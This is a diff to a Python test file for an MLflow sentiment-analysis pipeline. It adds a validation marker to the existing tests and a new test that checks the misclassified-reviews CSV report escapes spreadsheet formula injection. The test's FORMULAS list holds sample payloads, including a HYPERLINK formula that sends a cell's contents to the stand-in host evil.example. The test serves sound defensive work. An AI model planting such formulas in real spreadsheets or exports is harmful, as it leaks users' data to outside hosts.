@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 
 import mlflow
@@ -9,7 +10,7 @@ import numpy as np
 import pandas as pd
 import pytest
 from mlflow.tracking import MlflowClient
-from support import make_reviews, write_ingested
+from support import make_reviews, mark_validated, write_ingested
 
 from pyfunc import model as pyfunc_model
 from steps import evaluate, train
@@ -30,6 +31,7 @@ def trained(tmp_path, tracking_uri):
     paths = {
         "model_dir": tmp_path / "models" / "model",
         "info_file": tmp_path / "models" / "model.json",
+        "marker": mark_validated(ingested),
     }
     with mlflow.start_run():
         info = train.run(
@@ -60,6 +62,7 @@ def test_evaluate_writes_metrics_plots_and_examples(trained):
             ingested_dir=trained["ingested_dir"],
             model_dir=trained["model_dir"],
             info_file=trained["info_file"],
+            marker=trained["marker"],
             **out,
         )
     assert json.loads(out["metrics_file"].read_text()) == report
@@ -105,6 +108,7 @@ def test_evaluate_without_a_trained_model_says_to_run_train(trained, tmp_path):
             ingested_dir=trained["ingested_dir"],
             model_dir=tmp_path / "nothing",
             info_file=trained["info_file"],
+            marker=trained["marker"],
             **_outputs(tmp_path / "other"),
         )
     with pytest.raises(
@@ -186,3 +190,37 @@ def test_behavioural_invariance_catches_a_case_sensitive_scorer():
     assert [c.suite for c in behavioural.failures(report)] == ["invariance"]
     assert report.pass_rates["invariance"] == pytest.approx(0.9)
     assert behavioural.run_checks(shouting_is_negative, min_pass_rate=0.9).passed
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Dreadful, boring, awful.")',
+    "+1+1 Dreadful and boring, a terrible film.",
+    "-2+3 Awful, dull and painful to watch.",
+    "@SUM(1+1) Horrible, tedious and weak.",
+    "\t=1+1 Boring, dreadful, lifeless.",
+    "\r=1+1 Terrible, pointless, painful.",
+]
+
+
+def test_misclassified_csv_neutralises_cells_a_spreadsheet_would_run(tmp_path, tracking_uri):
+    """Negative-sounding reviews labelled positive: the model is confidently wrong about each,
+    so each lands in reports/misclassified.csv, where no cell may start a formula."""
+    reviews = make_reviews(500, seed=5)
+    planted = pd.DataFrame({"review": FORMULAS, "sentiment": ["positive"] * len(FORMULAS)})
+    test = pd.concat([reviews[400:], planted], ignore_index=True)
+    ingested = write_ingested(tmp_path / "ingested", reviews[:400], test)
+    marker = mark_validated(ingested)
+    paths = {"model_dir": tmp_path / "model", "info_file": tmp_path / "model.json"}
+    with mlflow.start_run():
+        train.run(load_params().train, ingested_dir=ingested, marker=marker,
+                  metrics_file=tmp_path / "train_metrics.json", **paths)  # fmt: skip
+    out = _outputs(tmp_path)
+    with mlflow.start_run():
+        evaluate.run(load_params().evaluate, ingested_dir=ingested, marker=marker, **paths, **out)
+    with open(out["misclassified_file"], newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    shown = {row["review"] for row in rows}
+    assert {f"'{text}" for text in FORMULAS} <= shown  # the words as written, behind a '
+    for row in rows:
+        for cell in row.values():  # scores and confidences are never negative
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
